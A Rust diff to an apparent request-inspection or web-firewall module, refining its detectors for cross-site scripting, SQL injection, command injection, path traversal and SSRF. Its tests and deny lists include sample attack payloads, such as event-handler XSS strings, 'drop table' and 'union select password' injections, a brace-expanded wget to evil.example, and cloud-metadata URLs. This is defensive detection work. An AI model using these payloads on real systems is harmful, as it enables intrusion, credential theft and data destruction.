@@ -487,11 +487,17 @@ fn decode(raw: &[u8], plus_is_space: bool) -> Cow<'_, [u8]> {
             break;
         }
         let mut next: Vec<u8> = match percent_encoding::percent_decode(&current).into() {
-            Cow::Borrowed(_) => current.to_vec(),
             Cow::Owned(bytes) => bytes,
+            Cow::Borrowed(_) => match decode_percent_u(&current) {
+                // Nothing to decode: "50% off" stays as it is.
+                None => break,
+                Some(unicode) => unicode,
+            },
         };
-        if let Some(unicode) = decode_percent_u(&next) {
-            next = unicode;
+        if next.contains(&b'%') {
+            if let Some(unicode) = decode_percent_u(&next) {
+                next = unicode;
+            }
         }
         if let Some(folded) = fold_lookalikes(&next) {
             next = folded;
@@ -539,6 +545,13 @@ fn fold_lookalikes(v: &[u8]) -> Option<Vec<u8>> {
     let mut out: Option<Vec<u8>> = None;
     let mut i = 0;
     while i < v.len() {
+        if v[i] < 0xc0 {
+            if let Some(out) = out.as_mut() {
+                out.push(v[i]);
+            }
+            i += 1;
+            continue;
+        }
         let (ascii, len) = lookalike_at(v, i);
         match ascii {
             Some(a) => {
@@ -601,6 +614,34 @@ fn positions_ci<'a>(v: &'a [u8], needle: &'a [u8]) -> impl Iterator<Item = usize
         .map(|(i, _)| i)
 }
 
+/// Every `(position, needle)` where one of `needles` starts in `v`,
+/// case-insensitively, in one pass: a byte is compared further only when it
+/// is the first byte of some needle. A needle that starts with a letter is
+/// only looked for at the start of a word (not after a letter or digit).
+fn find_needles<'a>(
+    v: &'a [u8],
+    needles: &'a [&'a [u8]],
+) -> impl Iterator<Item = (usize, &'a [u8])> + 'a {
+    let mut first = [false; 256];
+    for needle in needles {
+        if let Some(&b) = needle.first() {
+            first[usize::from(b.to_ascii_lowercase())] = true;
+        }
+    }
+    v.iter()
+        .enumerate()
+        .filter(move |&(i, &b)| {
+            first[usize::from(b.to_ascii_lowercase())]
+                && !(b.is_ascii_alphabetic() && i > 0 && v[i - 1].is_ascii_alphanumeric())
+        })
+        .flat_map(move |(i, _)| {
+            needles
+                .iter()
+                .filter(move |n| starts_with_ci(v, i, n))
+                .map(move |n| (i, *n))
+        })
+}
+
 /// Letters, digits, `_`, and any non-ASCII byte (part of a letter).
 fn is_word_byte(b: u8) -> bool {
     b.is_ascii_alphanumeric() || b == b'_' || b >= 0x80
@@ -610,29 +651,22 @@ fn is_letter(b: u8) -> bool {
     b.is_ascii_alphabetic() || b >= 0x80
 }
 
-/// `needle` at `at` with no word byte before it and none after.
-fn word_at_ci(v: &[u8], at: usize, needle: &[u8]) -> bool {
-    starts_with_ci(v, at, needle)
-        && (at == 0 || !is_word_byte(v[at - 1]))
-        && v.get(at + needle.len()).is_none_or(|&b| !is_word_byte(b))
-}
-
-fn contains_word_ci(v: &[u8], needle: &[u8]) -> bool {
-    positions_ci(v, needle).any(|i| word_at_ci(v, i, needle))
-}
-
 // ---------------------------------------------------------------------------
 // Path traversal
 // ---------------------------------------------------------------------------
 
-/// Well-known files read through traversal; `/` here matches `/` and `\`.
+/// Well-known files read through traversal, with either separator.
 const SENSITIVE_FILES: &[&[u8]] = &[
     b"etc/passwd",
+    b"etc\\passwd",
     b"etc/shadow",
+    b"etc\\shadow",
     b"proc/self/",
+    b"proc\\self\\",
     b"win.ini",
     b"boot.ini",
     b"windows/system32",
+    b"windows\\system32",
 ];
 
 /// `..` as a path segment, or a well-known system file. In the path every
@@ -686,23 +720,12 @@ fn dot_segments(v: &[u8], path_mode: bool) -> bool {
 }
 
 fn sensitive_file(v: &[u8]) -> bool {
-    SENSITIVE_FILES.iter().any(|needle| {
-        let n = needle.len();
-        (0..(v.len() + 1).saturating_sub(n)).any(|i| {
-            if v[i].to_ascii_lowercase() != needle[0] {
-                return false;
-            }
-            let matches = needle.iter().zip(&v[i..i + n]).all(|(&p, &b)| {
-                if p == b'/' {
-                    b == b'/' || b == b'\\'
-                } else {
-                    p == b.to_ascii_lowercase()
-                }
-            });
-            matches
-                && (i == 0 || !is_word_byte(v[i - 1]))
-                && (needle.ends_with(b"/") || v.get(i + n).is_none_or(|&b| !is_word_byte(b)))
-        })
+    find_needles(v, SENSITIVE_FILES).any(|(i, needle)| {
+        let after = i + needle.len();
+        (i == 0 || !is_word_byte(v[i - 1]))
+            && (needle.ends_with(b"/")
+                || needle.ends_with(b"\\")
+                || v.get(after).is_none_or(|&b| !is_word_byte(b)))
     })
 }
 
@@ -723,7 +746,29 @@ const DANGEROUS_TAGS: &[&[u8]] = &[
 fn xss(v: &[u8]) -> bool {
     let decoded = decode_entities(v);
     let v: &[u8] = &decoded;
-    has_markup(v) || has_script_url(v) || has_srcdoc_or_expression(v)
+    has_markup(v) || has_script_url(v) || attribute_breakout(v)
+}
+
+/// A value that closes an HTML attribute and opens an event handler without
+/// any tag: `x" onfocus=alert(1) autofocus="`.
+fn attribute_breakout(v: &[u8]) -> bool {
+    let n = v.len();
+    let mut i = 0;
+    while i < n {
+        if !matches!(v[i], b'"' | b'\'') {
+            i += 1;
+            continue;
+        }
+        let start = i + 1;
+        i = start;
+        while i < n && (v[i] <= b' ' || v[i] == b'/') {
+            i += 1;
+        }
+        if i > start && has_event_handler(&v[start - 1..(i + 40).min(n)]) {
+            return true;
+        }
+    }
+    false
 }
 
 fn has_markup(v: &[u8]) -> bool {
@@ -802,36 +847,51 @@ const SCRIPT_DATA_TYPES: &[&[u8]] = &[
     b"application/xhtml+xml",
 ];
 
+/// Script URL schemes, `data:` media types, `srcdoc=` and `expression(`, in
+/// one pass keyed on the first letter.
 fn has_script_url(v: &[u8]) -> bool {
-    for scheme in [&b"javascript"[..], b"vbscript", b"livescript"] {
-        for i in 0..v.len() {
-            if (v[i] | 0x20) != scheme[0] || (i > 0 && v[i - 1].is_ascii_alphanumeric()) {
-                continue;
+    (0..v.len()).any(|i| {
+        if i > 0 && is_word_byte(v[i - 1]) {
+            return false;
+        }
+        match v[i].to_ascii_lowercase() {
+            b'j' => script_scheme(v, i, b"javascript"),
+            b'v' => script_scheme(v, i, b"vbscript"),
+            b'l' => script_scheme(v, i, b"livescript"),
+            b'd' => spread_word_then_colon(v, i, b"data").is_some_and(|colon| {
+                let mut k = colon + 1;
+                while k < v.len() && v[k] <= b' ' {
+                    k += 1;
+                }
+                // The type ends at `;` or `,`: "Data: text/html pages" is prose.
+                SCRIPT_DATA_TYPES.iter().any(|t| {
+                    starts_with_ci(v, k, t) && matches!(v.get(k + t.len()), Some(b';' | b','))
+                })
+            }),
+            b's' if starts_with_ci(v, i, b"srcdoc") => {
+                let mut k = i + 6;
+                while k < v.len() && v[k] <= b' ' {
+                    k += 1;
+                }
+                v.get(k) == Some(&b'=')
             }
-            let Some(colon) = spread_word_then_colon(v, i, scheme) else {
-                continue;
-            };
-            if url_context(v, i, colon) {
-                return true;
+            b'e' if starts_with_ci(v, i, b"expression") => {
+                // A CSS value: after `:` or at the start, as in
+                // `width: expression(…)`; "Expression(s) of interest" is prose.
+                let mut p = i;
+                while p > 0 && v[p - 1] <= b' ' {
+                    p -= 1;
+                }
+                let css = p == 0 || v[p - 1] == b':';
+                css && v.get(skip_block_comments(v, i + 10)) == Some(&b'(')
             }
+            _ => false,
         }
-    }
-    for i in positions_ci(v, b"data") {
-        if i > 0 && v[i - 1].is_ascii_alphanumeric() {
-            continue;
-        }
-        let Some(colon) = spread_word_then_colon(v, i, b"data") else {
-            continue;
-        };
-        let mut k = colon + 1;
-        while k < v.len() && v[k] <= b' ' {
-            k += 1;
-        }
-        if SCRIPT_DATA_TYPES.iter().any(|t| starts_with_ci(v, k, t)) {
-            return true;
-        }
-    }
-    false
+    })
+}
+
+fn script_scheme(v: &[u8], i: usize, scheme: &[u8]) -> bool {
+    spread_word_then_colon(v, i, scheme).is_some_and(|colon| url_context(v, i, colon))
 }
 
 /// Match `word` at `at` allowing control characters (tab, newline, NUL…)
@@ -870,27 +930,6 @@ fn url_context(v: &[u8], start: usize, colon: usize) -> bool {
         p -= 1;
     }
     p == 0 || matches!(v[p - 1], b'=' | b'"' | b'\'' | b'(' | b'`' | b'>')
-}
-
-fn has_srcdoc_or_expression(v: &[u8]) -> bool {
-    let srcdoc = positions_ci(v, b"srcdoc").any(|i| {
-        if i > 0 && is_word_byte(v[i - 1]) {
-            return false;
-        }
-        let mut k = i + 6;
-        while k < v.len() && v[k] <= b' ' {
-            k += 1;
-        }
-        k < v.len() && v[k] == b'='
-    });
-    srcdoc
-        || positions_ci(v, b"expression").any(|i| {
-            if i > 0 && is_word_byte(v[i - 1]) {
-                return false;
-            }
-            let k = skip_block_comments(v, i + 10);
-            k < v.len() && v[k] == b'('
-        })
 }
 
 /// Skip short `/* … */` comments starting at `k`; the first index after
@@ -1273,7 +1312,7 @@ fn word_pattern(v: &[u8], t: &[Tok], i: usize) -> bool {
         while is_punct(t, j, b'(') {
             j += 1;
         }
-        return is_kw(v, t, j, "select");
+        return is_kw(v, t, j, "select") && select_list(v, t, j + 1);
     }
     if is("sleep") || is("benchmark") || is("pg_sleep") {
         // `sleep(5)` or `sleep/**/(5)`, but not "sleep (8 hours)".
@@ -1295,6 +1334,28 @@ fn word_pattern(v: &[u8], t: &[Tok], i: usize) -> bool {
     SQL_MARKERS.iter().any(|m| w.eq_ignore_ascii_case(m))
 }
 
+/// The start of a select list: a number, `*`, `null`, a literal, `(`, a
+/// variable, or a column followed by `,`, `(`, `from` or the end — "Credit
+/// Union Select account holder" is a name, `union select password from
+/// users` is not.
+fn select_list(v: &[u8], t: &[Tok], j: usize) -> bool {
+    match t.get(j) {
+        Some(Tok::Punct(b'*' | b'(' | b'-')) | Some(Tok::Quote { .. }) => true,
+        Some(Tok::Word(..)) => {
+            let w = text(v, t, j).unwrap_or_default();
+            is_number(w)
+                || w.eq_ignore_ascii_case(b"null")
+                || w.starts_with(b"@")
+                || w.starts_with(b"0x")
+                || is_punct(t, j + 1, b',')
+                || is_punct(t, j + 1, b'(')
+                || is_kw(v, t, j + 1, "from")
+                || ends_clause(t, j + 1)
+        }
+        _ => false,
+    }
+}
+
 /// A statement stacked after `;`.
 fn stacked_statement(v: &[u8], t: &[Tok], j: usize) -> bool {
     let Some(w) = text(v, t, j) else {
@@ -1304,10 +1365,16 @@ fn stacked_statement(v: &[u8], t: &[Tok], j: usize) -> bool {
     let next_is = |k: usize, kws: &[&str]| kws.iter().any(|kw| is_kw(v, t, k, kw));
 
     if is("drop") {
+        // `; drop table users--`, not "; drop table tennis lessons".
+        let mut k = j + 2;
+        if next_is(k, &["if"]) && next_is(k + 1, &["exists"]) {
+            k += 2;
+        }
         next_is(
             j + 1,
             &["table", "database", "schema", "view", "procedure", "function"],
-        )
+        ) && is_identifier(v, t, k)
+            && (ends_clause(t, k + 1) || is_punct(t, k + 1, b',') || next_is(k + 1, &["cascade"]))
     } else if is("delete") {
         next_is(j + 1, &["from"])
             && is_identifier(v, t, j + 2)
@@ -1334,6 +1401,11 @@ fn stacked_statement(v: &[u8], t: &[Tok], j: usize) -> bool {
                     || lower.starts_with(b"master")
                     || lower.starts_with(b"@")
             })
+    } else if is("select") {
+        // `; select * from …`, `; select null, …`, not "; select a plan".
+        is_punct(t, j + 1, b'*')
+            || is_kw(v, t, j + 1, "null")
+            || text(v, t, j + 1).is_some_and(|w| w.starts_with(b"@@"))
     } else if is("shutdown") {
         ends_clause(t, j + 1) || next_is(j + 1, &["with"])
     } else if is("declare") {
@@ -1364,8 +1436,8 @@ const WEAK_COMMANDS: &[&[u8]] = &[
     b"xargs", b"dd", b"tee", b"base64", b"dash", b"printf", b"nohup", b"exec", b"eval",
 ];
 
-/// Shells and devices named by path.
-const SHELL_PATHS: &[&[u8]] = &[
+/// Shells and devices named by path, and Windows shells by name.
+const SHELL_WORDS: &[&[u8]] = &[
     b"/bin/sh",
     b"/bin/bash",
     b"/bin/dash",
@@ -1374,6 +1446,13 @@ const SHELL_PATHS: &[&[u8]] = &[
     b"/bin/busybox",
     b"/dev/tcp/",
     b"/dev/udp/",
+    b"cmd.exe",
+    b"cmd",
+    b"powershell.exe",
+    b"powershell",
+    b"pwsh",
+    b"iex",
+    b"invoke-expression",
 ];
 
 /// Shell syntax that runs something: a separator (`;`, `|`, `||`, `&`,
@@ -1402,11 +1481,7 @@ fn command_injection(v: &[u8]) -> bool {
         }
     }
 
-    SHELL_PATHS.iter().any(|p| {
-        positions_ci(v, p)
-            .any(|i| p.ends_with(b"/") || v.get(i + p.len()).is_none_or(|&b| !is_word_byte(b)))
-    }) || windows_shell(v)
-        || shellshock(v)
+    find_needles(v, SHELL_WORDS).any(|(i, word)| shell_word(v, i, word)) || shellshock(v)
 }
 
 /// Is there a command starting at `j` (after spaces)?
@@ -1430,11 +1505,23 @@ fn command_at(v: &[u8], mut j: usize, substitution: bool) -> bool {
         return in_bin && (is_command(name, STRONG_COMMANDS) || is_command(name, WEAK_COMMANDS));
     }
 
+    // `;{cat,/etc/passwd}`: brace expansion runs the command without spaces.
+    let braced = j < n && v[j] == b'{';
+    if braced {
+        j += 1;
+    }
     let start = j;
     while j < n && (v[j].is_ascii_lowercase() || v[j].is_ascii_digit() || v[j] == b'_') {
         j += 1;
     }
     let word = &v[start..j];
+    if braced {
+        if j >= n || v[j] != b',' {
+            return false;
+        }
+        return (is_command(word, STRONG_COMMANDS) && v.get(j + 1).is_some_and(|&b| b > b' '))
+            || (is_command(word, WEAK_COMMANDS) && shell_argument(v, j + 1, word));
+    }
     let ends_word = j == n
         || v[j] <= b' '
         || matches!(v[j], b';' | b'|' | b'&' | b')' | b'`' | b'<' | b'>' | b'$');
@@ -1495,9 +1582,20 @@ fn shell_argument(v: &[u8], mut j: usize, command: &[u8]) -> bool {
     }
 }
 
-/// `cmd.exe /c`, `cmd /k`, `powershell -enc …`, `pwsh -c`, `iex(`.
-fn windows_shell(v: &[u8]) -> bool {
-    let switch_after = |mut k: usize, lead: u8| {
+/// A shell path ending at a word boundary (`/bin/sh`, not `/bin/shop`),
+/// or a Windows shell with a switch: `cmd.exe /c`, `cmd /k`,
+/// `powershell -enc …`, `pwsh -c`; or `iex(` / `Invoke-Expression`.
+fn shell_word(v: &[u8], i: usize, word: &[u8]) -> bool {
+    let end = i + word.len();
+    let ends_word = v.get(end).is_none_or(|&b| !is_word_byte(b));
+    if word.starts_with(b"/") {
+        return word.ends_with(b"/") || ends_word;
+    }
+    if i > 0 && v[i - 1].is_ascii_alphanumeric() {
+        return false;
+    }
+    let switch_after = |lead: u8| {
+        let mut k = end;
         if !v.get(k).is_some_and(|&b| b == b' ' || b == b'\t') {
             return false;
         }
@@ -1506,24 +1604,12 @@ fn windows_shell(v: &[u8]) -> bool {
         }
         v.get(k) == Some(&lead) && v.get(k + 1).is_some_and(u8::is_ascii_alphabetic)
     };
-    let word_start = |i: usize| i == 0 || !v[i - 1].is_ascii_alphanumeric();
-
-    let cmd = [&b"cmd.exe"[..], b"cmd"].iter().any(|name| {
-        positions_ci(v, name).any(|i| {
-            word_start(i) && switch_after(i + name.len(), b'/')
-        })
-    });
-    let powershell = [&b"powershell.exe"[..], b"powershell", b"pwsh"]
-        .iter()
-        .any(|name| {
-            positions_ci(v, name)
-                .any(|i| word_start(i) && switch_after(i + name.len(), b'-'))
-        });
-    let iex = positions_ci(v, b"iex").any(|i| {
-        let k = i + 3;
-        word_start(i) && (v.get(k) == Some(&b'(') || starts_with_ci(v, k, b" ("))
-    }) || contains_word_ci(v, b"invoke-expression");
-    cmd || powershell || iex
+    match word {
+        b"cmd.exe" | b"cmd" => switch_after(b'/'),
+        b"iex" => v.get(end) == Some(&b'(') || starts_with_ci(v, end, b" ("),
+        b"invoke-expression" => ends_word,
+        _ => switch_after(b'-'),
+    }
 }
 
 /// Shellshock: `() {` followed by `:;` (spaces allowed).
@@ -1561,10 +1647,14 @@ const METADATA_V4: &[Ipv4Addr] = &[
 /// AWS's IPv6 metadata address.
 const METADATA_V6: Ipv6Addr = Ipv6Addr::new(0xfd00, 0x0ec2, 0, 0, 0, 0, 0, 0x254);
 
-const METADATA_HOSTS: &[&[u8]] = &[b"metadata.google.internal", b"metadata.goog"];
-
-/// URL schemes that reach files or non-HTTP internal services.
-const SSRF_SCHEMES: &[&[u8]] = &[
+/// Metadata host names, and URL schemes that reach files or non-HTTP
+/// internal services.
+const SSRF_WORDS: &[&[u8]] = &[
+    b"metadata.google.internal",
+    b"metadata.goog",
+    b"instance-data",
+    b"file:",
+    b"jar:",
     b"gopher://",
     b"dict://",
     b"ldap://",
@@ -1579,33 +1669,31 @@ const SSRF_SCHEMES: &[&[u8]] = &[
 /// `gopher://`, `dict://`, `ldap://`, `tftp://`, `jar:…:` URLs. Plain
 /// `https://` URLs pass.
 fn ssrf(v: &[u8]) -> bool {
-    let scheme = SSRF_SCHEMES
-        .iter()
-        .any(|s| positions_ci(v, s).any(|i| i == 0 || !is_scheme_byte(v[i - 1])));
-    let file = positions_ci(v, b"file:").any(|i| {
-        (i == 0 || !is_scheme_byte(v[i - 1])) && matches!(v.get(i + 5), Some(b'/' | b'\\'))
-    });
-    let jar = positions_ci(v, b"jar:").any(|i| {
-        if i > 0 && is_scheme_byte(v[i - 1]) {
-            return false;
-        }
-        let mut k = i + 4;
-        while k < v.len() && v[k].is_ascii_alphabetic() {
-            k += 1;
-        }
-        k > i + 4 && v.get(k) == Some(&b':')
-    });
-    let host = METADATA_HOSTS.iter().any(|h| {
-        positions_ci(v, h).any(|i| {
-            let mut end = i + h.len();
+    find_needles(v, SSRF_WORDS).any(|(i, word)| ssrf_word(v, i, word))
+        || metadata_ipv4(v)
+        || metadata_ipv6(v)
+}
+
+fn ssrf_word(v: &[u8], i: usize, word: &[u8]) -> bool {
+    let end = i + word.len();
+    match word {
+        b"metadata.google.internal" | b"metadata.goog" | b"instance-data" => {
             // A fully qualified name may end with a dot.
-            if v.get(end) == Some(&b'.') {
-                end += 1;
-            }
+            let end = if v.get(end) == Some(&b'.') { end + 1 } else { end };
             (i == 0 || !is_host_byte(v[i - 1])) && v.get(end).is_none_or(|&b| !is_host_byte(b))
-        })
-    });
-    scheme || file || jar || host || metadata_ipv4(v) || metadata_ipv6(v)
+        }
+        _ if i > 0 && is_scheme_byte(v[i - 1]) => false,
+        b"file:" => matches!(v.get(end), Some(b'/' | b'\\')),
+        b"jar:" => {
+            // `jar:` wraps another URL: `jar:http://…!/`, not "Tip jar: $5".
+            let mut k = end;
+            while k < v.len() && v[k].is_ascii_alphabetic() {
+                k += 1;
+            }
+            k > end && v.get(k) == Some(&b':')
+        }
+        _ => true,
+    }
 }
 
 fn is_scheme_byte(b: u8) -> bool {
@@ -1632,10 +1720,15 @@ fn metadata_ipv4(v: &[u8]) -> bool {
             i += 1;
         }
         let run = &v[start..i];
-        if !run[0].is_ascii_digit() || run.len() > 48 {
+        if !run[0].is_ascii_digit() || run.len() > 255 {
             continue;
         }
         let run = run.strip_suffix(b".").unwrap_or(run);
+        if leading_quad(run).is_some_and(|a| METADATA_V4.contains(&a)) {
+            // `169.254.169.254.nip.io`: wildcard DNS names that resolve to
+            // the address they start with.
+            return true;
+        }
         let Some((addr, parts)) = inet_aton(run) else {
             continue;
         };
@@ -1649,6 +1742,23 @@ fn metadata_ipv4(v: &[u8]) -> bool {
         }
     }
     false
+}
+
+/// A dotted-decimal address followed by more labels (`1.2.3.4.example`).
+fn leading_quad(run: &[u8]) -> Option<Ipv4Addr> {
+    let mut labels = run.split(|&b| b == b'.');
+    let mut octets = [0u8; 4];
+    for octet in &mut octets {
+        let label = labels.next()?;
+        if label.is_empty() || label.len() > 3 || !label.iter().all(u8::is_ascii_digit) {
+            return None;
+        }
+        *octet = std::str::from_utf8(label).ok()?.parse().ok()?;
+    }
+    labels
+        .next()
+        .filter(|l| l.first().is_some_and(u8::is_ascii_alphabetic))
+        .map(|_| Ipv4Addr::from(octets))
 }
 
 /// `inet_aton`: one to four parts, each decimal, `0x` hex or `0` octal; the
@@ -1776,7 +1886,7 @@ fn scanner_user_agent(v: &[u8]) -> bool {
                 .rposition(|b| !b.is_ascii_digit())
                 .map_or(0, |p| p + 1);
             let name = &word[..end];
-            !name.is_empty() && SCANNERS.iter().any(|s| name.eq_ignore_ascii_case(s))
+            (4..=11).contains(&name.len()) && SCANNERS.iter().any(|s| name.eq_ignore_ascii_case(s))
         })
 }
 
@@ -1997,11 +2107,17 @@ mod tests {
                 "srcdoc = '&lt;script&gt;'",
                 "width: expression(alert(1))",
                 "x:expression/**/(alert(1))",
+                "expression(alert(1))",
                 "&lt;script&gt;alert(1)&lt;/script&gt;",
                 "<a href=\"&#106;avascript:alert(1)\">",
                 "<a href=\"&#x6A;&#x61;vascript&colon;alert(1)\">",
                 "\u{ff1c}script\u{ff1e}alert(1)",
                 "<script",
+                "x\" onfocus=alert(1) autofocus=\"",
+                "' onmouseover='alert(1)",
+                "<img/src/onerror=alert(1)>",
+                "<scr<script>ipt>alert(1)</script>",
+                "<a href=javas&#99;ript:alert(1)>",
             ],
         );
         assert_quiet(&[
@@ -2016,7 +2132,12 @@ mod tests {
             "<https://example.com/help>",
             "We use JavaScript: it is slow",
             "Tom &amp; Jerry",
+            "he said \"ok\" and left",
+            "the 'online' option",
+            "\"Once upon a time\" she said",
             "facial expression (angry)",
+            "Expression(s) of interest: 3",
+            "Data: text/html pages are slow",
             "data: 3 calls, 2 voicemails",
             "😀 <- happy",
             "∑ x_i < 10",
@@ -2050,6 +2171,9 @@ mod tests {
                 "1 /*!50000union*/ /*!50000select*/ 1",
                 "x'; drop table users;--",
                 "1; DROP TABLE calls",
+                "1; drop table if exists users cascade",
+                "' union select password from users--",
+                "' union select 'a'",
                 "1; delete from users--",
                 "1; insert into users (name) values ('x')",
                 "1; update users set role='admin'",
@@ -2064,6 +2188,8 @@ mod tests {
                 "' union select 1 into outfile '/tmp/x'",
                 "' and (select 1 from dual)",
                 "@@version",
+                "1; select * from users",
+                "x'; SELECT NULL, NULL--",
             ],
         );
         assert_quiet(&[
@@ -2087,6 +2213,9 @@ mod tests {
             "1=1 is math",
             "Ms. O'Neil and Mr. D'Souza",
             "'Order #12' shipped",
+            "done; select a plan from the list",
+            "Credit Union Select account holder",
+            "Cancelled; drop table tennis lessons",
         ]);
     }
 
@@ -2171,6 +2300,8 @@ mod tests {
                 "; ls -la",
                 "$(sleep 5)",
                 "iex(New-Object Net.WebClient)",
+                "a;{cat,/etc/passwd}",
+                "x;{wget,http://evil.example/x}",
             ],
         );
         assert_quiet(&[
@@ -2190,6 +2321,7 @@ mod tests {
             "Mozilla/5.0 (compatible; curl/8.5.0)",
             "run cmd to open a prompt",
             "the powershell window",
+            "notes; {cat, dog}",
         ]);
     }
 
@@ -2221,6 +2353,8 @@ mod tests {
                 "ldap://evil.example/x",
                 "jar:http://evil.example/x.jar!/",
                 "http://169.254.169.254./",
+                "http://169.254.169.254.nip.io/latest",
+                "http://instance-data/latest/meta-data",
             ],
         );
         assert_quiet(&[
@@ -2235,6 +2369,8 @@ mod tests {
             "my file: notes.txt",
             "https://hooks.example.com/kraliki",
             "metadata review at 10",
+            "version 169.254.1.2.beta",
+            "instance-database migration",
         ]);
     }
 
@@ -2556,43 +2692,15 @@ mod tests {
         .collect();
         let started = std::time::Instant::now();
         for body in &inputs {
-            let one = std::time::Instant::now();
             let _ = inspect(&Inspected {
                 path: "/api/x",
                 body: Some(body),
                 content_type: Some("text/plain"),
                 ..Inspected::default()
             });
-            eprintln!("{:?}: {:?}", String::from_utf8_lossy(&body[..4]), one.elapsed());
         }
         // Quadratic matching on 64 KiB would take minutes; linear takes
         // milliseconds even unoptimized.
         assert!(started.elapsed().as_secs() < 5, "took {:?}", started.elapsed());
-    }
-}
-#[cfg(test)]
-mod prof {
-    use super::*;
-    #[test]
-    fn prof() {
-        let v: Vec<u8> = b"<a ".iter().copied().cycle().take(65536).collect();
-        let mut toks = Vec::new();
-        let t = |name: &str, f: &mut dyn FnMut() -> bool| {
-            let s = std::time::Instant::now();
-            let r = f();
-            eprintln!("{name}: {:?} {r}", s.elapsed());
-        };
-        t("decode", &mut || decode(&v, false).len() > 0);
-        t("xss", &mut || xss(&v));
-        t("markup", &mut || has_markup(&v));
-        t("scripturl", &mut || has_script_url(&v));
-        t("srcdoc", &mut || has_srcdoc_or_expression(&v));
-        t("sql", &mut || sql_injection(&v, &mut toks));
-        t("trav", &mut || path_traversal(&v, false));
-        t("cmd", &mut || command_injection(&v));
-        t("ssrf", &mut || ssrf(&v));
-        t("v4", &mut || metadata_ipv4(&v));
-        t("v6", &mut || metadata_ipv6(&v));
-        t("scanner", &mut || scanner_user_agent(&v));
     }
 }
